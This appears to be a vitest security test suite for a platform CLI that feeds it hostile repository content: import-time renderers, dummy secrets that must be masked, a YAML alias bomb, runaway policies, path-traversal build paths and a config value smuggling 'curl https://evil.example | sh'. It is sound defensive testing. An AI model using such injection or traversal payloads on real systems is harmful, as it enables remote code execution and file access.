/**
 * What a repository someone else wrote can make the CLI do (docs/security.md): the built CLI in
 * a child process, on a real git repository holding the example org plus hostile files.
 */
import { cp, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { git, initRepo, repoRoot, runCli, tempDir, writeFiles } from "./helpers.js";

let dir: string;
let cleanup: () => Promise<void>;

/** A renderer module that leaves a marker file behind when it is imported, before any render. */
function markerRenderer(marker: string, target: string): string {
  return `import { writeFileSync } from "node:fs";
writeFileSync(${JSON.stringify(marker)}, "imported");
export default { target: ${JSON.stringify(target)}, render: (spec, env, ctx) => ctx.objects };
`;
}

async function exists(path: string): Promise<boolean> {
  return stat(path).then(
    () => true,
    () => false,
  );
}

beforeAll(async () => {
  ({ dir, cleanup } = await tempDir("hostile"));
  await cp(join(repoRoot, "examples"), dir, { recursive: true });
  await rm(join(dir, "services/broken-service"), { recursive: true });
  await initRepo(dir);
});
afterAll(async () => cleanup());

describe("repository code runs only where documented", () => {
  it("validate and check --staged never import a renderer; render imports only the target's", async () => {
    const markers = { k8s: join(dir, "k8s-imported"), tf: join(dir, "tf-imported") };
    await writeFiles(dir, {
      ".platform/renderers/labels.kubernetes.mjs": markerRenderer(markers.k8s, "kubernetes"),
      ".platform/renderers/tags.terraform.mjs": markerRenderer(markers.tf, "terraform"),
    });
    git(dir, "add", "-A");
    try {
      const validate = await runCli(["validate"], { cwd: dir });
      expect(validate.code).not.toBe(2);
      const staged = await runCli(["check", "--staged"], { cwd: dir });
      expect(staged.code).not.toBe(2);
      expect(await exists(markers.k8s)).toBe(false);
      expect(await exists(markers.tf)).toBe(false);

      const render = await runCli(["render", "search-api", "--env", "production", "--target", "kubernetes"], {
        cwd: dir,
      });
      expect(render.code).toBe(0);
      expect(await readFile(markers.k8s, "utf8")).toBe("imported");
      expect(await exists(markers.tf)).toBe(false);
    } finally {
      await rm(join(dir, ".platform/renderers"), { recursive: true });
      await rm(markers.k8s, { force: true });
      git(dir, "add", "-A");
    }
  });

  it("a renderer file named for one target that renders another is refused", async () => {
    await writeFiles(dir, {
      ".platform/renderers/sneaky.terraform.mjs": markerRenderer(join(dir, "sneaky"), "kubernetes"),
    });
    try {
      const run = await runCli(["render", "search-api", "--env", "production", "--target", "terraform"], {
        cwd: dir,
      });
      expect(run.code).toBe(1);
      expect(run.stderr).toContain("named for the terraform target but exports a renderer for kubernetes");
    } finally {
      await rm(join(dir, ".platform/renderers"), { recursive: true });
      await rm(join(dir, "sneaky"), { force: true });
    }
  });
});

describe("render does not write secret-looking values", () => {
  const manifest = (env: string) => `apiVersion: platform/v1
name: leaky
owner: payments
pattern: worker
image: ghcr.io/acme/leaky:1.0.0
resources:
  requests: { cpu: 250m, memory: 256Mi }
env:
${env}`;

  it.each([
    ["DB_PASS", "hunter2hunter2", "a value under a credential name"],
    ["SESSION_KEY", "sessionkey888", "a value under a credential name"],
    ["UPSTREAM", "https://app:s3cretpw@db.internal/x", "a URL with a password"],
    ["STRIPE", "sk_live_abcdefghijklmnop", "a Stripe key"],
  ])(
    "%s is refused with PLT5042 (never echoed); the flag named for it writes it",
    async (key, value, why) => {
      await writeFiles(dir, { "services/leaky/platform.yaml": manifest(`  ${key}: "${value}"\n`) });
      try {
        for (const target of ["kubernetes", "terraform"]) {
          const args = ["render", "leaky", "--env", "production", "--target", target, "--format", "json"];
          const run = await runCli(args, { cwd: dir });
          expect(run.code).toBe(1);
          expect(run.stdout).toBe("");
          expect(run.stderr).toContain(`services/leaky/platform.yaml:9:`);
          expect(run.stderr).toContain(`PLT5042  env ${key} holds ${why} in plain text`);
          expect(run.stderr).not.toContain(value);
          const forced = await runCli([...args, "--write-secret-looking-values"], { cwd: dir });
          expect(forced.code).toBe(0);
          expect(forced.stdout).toContain(value);
        }
      } finally {
        await rm(join(dir, "services/leaky"), { recursive: true });
      }
    },
  );
});

describe("explain masks what the secret rule flags", () => {
  it("in every format", async () => {
    const values = {
      DB_PASS: "hunter2hunter2",
      REDIS_AUTH: "redisauth777",
      SESSION_KEY: "sessionkey888",
      AUTH_HEADER: "Bearer abcdefgh12345678",
    };
    const env = Object.entries(values)
      .map(([k, v]) => `  ${k}: "${v}"\n`)
      .join("");
    await writeFiles(dir, {
      "services/leaky/platform.yaml": `apiVersion: platform/v1\nname: leaky\nowner: payments\npattern: worker\nimage: ghcr.io/acme/leaky:1.0.0\nenv:\n${env}`,
    });
    try {
      for (const format of ["human", "json"]) {
        const run = await runCli(["explain", "leaky", "--env", "production", "--format", format], {
          cwd: dir,
        });
        expect(run.code).toBe(0);
        for (const [key, value] of Object.entries(values)) {
          expect(run.stdout).toContain(key);
          expect(run.stdout + run.stderr).not.toContain(value);
        }
      }
    } finally {
      await rm(join(dir, "services/leaky"), { recursive: true });
    }
  });
});

describe("hostile policies are findings on the .rego file, never an internal error", () => {
  it.each([
    ["an alias to no anchor", "# title: x\n# description: *x\n"],
    [
      "an alias bomb",
      `# a: &a [x, x, x, x, x, x, x, x]\n${"bcdefgh"
        .split("")
        .map((c, i) => `# ${c}: &${c} [${Array(8).fill(`*${"abcdefgh"[i]}`).join(", ")}]\n`)
        .join("")}`,
    ],
  ])(
    "METADATA with %s: PLT4002 in validate and check --staged, a parse error in policy test",
    async (_name, yaml) => {
      const file = ".platform/policies/hostile.rego";
      await writeFiles(dir, {
        [file]: `# METADATA\n${yaml}package platform.guardrails.hostile\n\nimport rego.v1\n\ndeny contains "x" if { false }\n`,
      });
      git(dir, "add", "-A");
      try {
        for (const args of [["validate"], ["check", "--staged"]]) {
          const run = await runCli(args, { cwd: dir });
          expect(run.stderr + run.stdout).not.toContain("internal error");
          expect(run.code).toBe(1);
          expect(run.stdout + run.stderr).toMatch(
            new RegExp(`${file}:1:1 +error +PLT4002 .*invalid METADATA YAML`),
          );
        }
        const test = await runCli(["policy", "test", ".platform/policies"], { cwd: dir });
        expect(test.stderr + test.stdout).not.toContain("internal error");
        expect(test.stderr + test.stdout).toContain("invalid METADATA YAML");
        expect(test.code).not.toBe(0);
      } finally {
        await rm(join(dir, file));
        git(dir, "add", "-A");
      }
    },
  );
});

describe("a policy has an evaluation budget (PLT4003, never a hang)", () => {
  it.each([
    [
      "time",
      { PLATFORM_POLICY_TIME_BUDGET_MS: "1000" },
      "some i in numbers.range(1, 1000)\n\tsome j in numbers.range(1, 1000)\n\tsome k in numbers.range(1, 1000)\n\ti + j + k < 0",
      "did not finish within its budget of 1 s",
    ],
    [
      "memory",
      { PLATFORM_POLICY_MEMORY_BUDGET_MB: "64" },
      "count(numbers.range(1, 100000000)) > 5",
      "needed more than its memory budget of 64 MB",
    ],
  ])(
    "over its %s budget, validate and check --staged report PLT4003 on every service",
    async (_what, env, body, why) => {
      const file = ".platform/policies/hog.rego";
      await writeFiles(dir, {
        [file]: `package platform.guardrails.hog\n\nimport rego.v1\n\ndeny contains "x" if {\n\t${body}\n}\n`,
      });
      git(dir, "add", "-A");
      try {
        for (const args of [["validate"], ["check", "--staged"]]) {
          const run = await runCli(args, { cwd: dir, env });
          expect(run.code).toBe(1);
          expect(run.stdout + run.stderr).toContain(
            `PLT4003  The guardrails could not be evaluated for this service`,
          );
          expect(run.stdout + run.stderr).toContain(why);
        }
      } finally {
        await rm(join(dir, file));
        git(dir, "add", "-A");
      }
    },
  );
});

describe("generated files and paths", () => {
  it.each([
    ["../../../etc", "Dockerfile", "build.context", "above the repository"],
    ["/etc", "Dockerfile", "build.context", "it is absolute"],
    [".", "../../../../etc/passwd", "build.dockerfile", "above the repository"],
  ])(
    "build context %s / dockerfile %s is PLT3025 on the field, and render writes no CI",
    async (context, dockerfile, field, why) => {
      await writeFiles(dir, {
        "services/escape/platform.yaml": `apiVersion: platform/v1\nname: escape\nowner: payments\npattern: worker\nbuild:\n  context: ${context}\n  dockerfile: ${dockerfile}\n`,
      });
      try {
        const run = await runCli(["validate", "--format", "json"], { cwd: dir });
        expect(run.code).toBe(1);
        const found = JSON.parse(run.stdout).files.flatMap(
          (f: { diagnostics: Array<{ code: string; message: string }> }) =>
            f.diagnostics.filter((d) => d.code === "PLT3025"),
        );
        expect(found).toHaveLength(1);
        expect(found[0].message).toContain(`${field} must be a path inside the repository`);
        expect(found[0].message).toContain(why);
        const render = await runCli(["render", "--target", "ci"], { cwd: dir });
        expect(render.code).toBe(1);
        expect(render.stdout).toBe("");
      } finally {
        await rm(join(dir, "services/escape"), { recursive: true });
      }
    },
  );

  it("a context inside the repository but above the service is fine", async () => {
    await writeFiles(dir, {
      "services/inside/platform.yaml":
        "apiVersion: platform/v1\nname: inside\nowner: payments\npattern: worker\nbuild:\n  context: ../..\n  dockerfile: services/inside/Dockerfile\n",
    });
    try {
      const run = await runCli(["validate", "--format", "json"], { cwd: dir });
      expect(run.stdout).not.toContain("PLT3025");
    } finally {
      await rm(join(dir, "services/inside"), { recursive: true });
    }
  });

  it("a kubectl context that is a shell command is refused by the org config schema", async () => {
    const configFile = join(dir, ".platform/config.yaml");
    const original = await readFile(configFile, "utf8");
    const hostile = original.replace(
      "context: staging-eu-west-1",
      'context: "prod; curl https://evil.example | sh"',
    );
    expect(hostile).not.toBe(original);
    await writeFiles(dir, { ".platform/config.yaml": hostile });
    try {
      const run = await runCli(["validate"], { cwd: dir });
      expect(run.code).toBe(1);
      expect(run.stdout + run.stderr).toMatch(/\.platform\/config\.yaml:\d+:\d+ +error +PLT2009/);
      const render = await runCli(["render", "--target", "ci"], { cwd: dir });
      expect(render.stdout).not.toContain("curl");
    } finally {
      await writeFiles(dir, { ".platform/config.yaml": original });
    }
  });
});

describe("check --staged never passes what it could not read", () => {
  let repo: string;
  let done: () => Promise<void>;
  const manifest = (image: string) =>
    `apiVersion: platform/v1\nname: nl\nowner: payments\npattern: worker\nimage: ghcr.io/acme/nl:${image}\nresources:\n  requests: { cpu: 250m, memory: 256Mi }\n`;

  beforeAll(async () => {
    ({ dir: repo, cleanup: done } = await tempDir("staged-edges"));
    await initRepo(repo);
    await cp(join(repoRoot, "examples/.platform/config.yaml"), join(repo, ".platform/config.yaml"));
  });
  afterAll(async () => done());

  it("a staged path with a newline is checked (its findings, exit 1)", async () => {
    await writeFiles(repo, { "svc\nx/platform.yaml": `${manifest("1.0.0")}owner: nobody\n` });
    git(repo, "add", "-A");
    const run = await runCli(["check", "--staged"], { cwd: repo });
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).toContain("PLT1002");
    await writeFiles(repo, { "svc\nx/platform.yaml": manifest("1.0.0") });
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "base");
  });

  it("a symlink to itself is PLT3011, not parsed as its own name", async () => {
    await writeFiles(repo, { "loop/.keep": "" });
    await symlink("platform.yaml", join(repo, "loop/platform.yaml"));
    git(repo, "add", "-A");
    const run = await runCli(["check", "--staged"], { cwd: repo });
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).toMatch(/loop\/platform\.yaml:1:1 +error +PLT3011/);
    await rm(join(repo, "loop"), { recursive: true });
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "no loop", "--allow-empty");
  });

  it("a conflicted merge is exit 2 naming the file", async () => {
    git(repo, "checkout", "-q", "-b", "other");
    await writeFiles(repo, { "svc\nx/platform.yaml": manifest("2.0.0") });
    git(repo, "commit", "-qam", "other");
    git(repo, "checkout", "-q", "main");
    await writeFiles(repo, { "svc\nx/platform.yaml": manifest("3.0.0") });
    git(repo, "commit", "-qam", "main");
    try {
      git(repo, "merge", "other");
    } catch {
      // the conflict is the point
    }
    const run = await runCli(["check", "--staged"], { cwd: repo });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('"svc\\nx/platform.yaml" has unresolved merge conflicts');
    git(repo, "merge", "--abort");
  });

  it("a corrupt index is exit 2, not 'nothing to check'", async () => {
    const index = join(repo, ".git/index");
    const saved = await readFile(index);
    await writeFiles(repo, { ".git/index": "garbage" });
    try {
      const run = await runCli(["check", "--staged"], { cwd: repo });
      expect(run.code).toBe(2);
      expect(run.stderr).toContain("cannot read the git index");
    } finally {
      await writeFile(index, saved);
    }
  });
});

describe("validate masks secrets under misspelt and short credential names", () => {
  it("in human and json output", async () => {
    await writeFiles(dir, {
      "services/leaky/platform.yaml":
        "apiVersion: platform/v1\nname: leaky\nowner: payments\npattern: worker\nimage: ghcr.io/acme/leaky:1.0.0\npasswrd: hunter3hunter3\nenv:\n  DB_PASS: hunter4hunter4\n",
    });
    try {
      for (const format of ["human", "json", "sarif", "github"]) {
        const run = await runCli(["validate", "--format", format], { cwd: dir });
        expect(run.code).toBe(1);
        expect(run.stdout + run.stderr).toContain("passwrd");
        expect(run.stdout + run.stderr).not.toContain("hunter");
      }
    } finally {
      await rm(join(dir, "services/leaky"), { recursive: true });
    }
  });
});
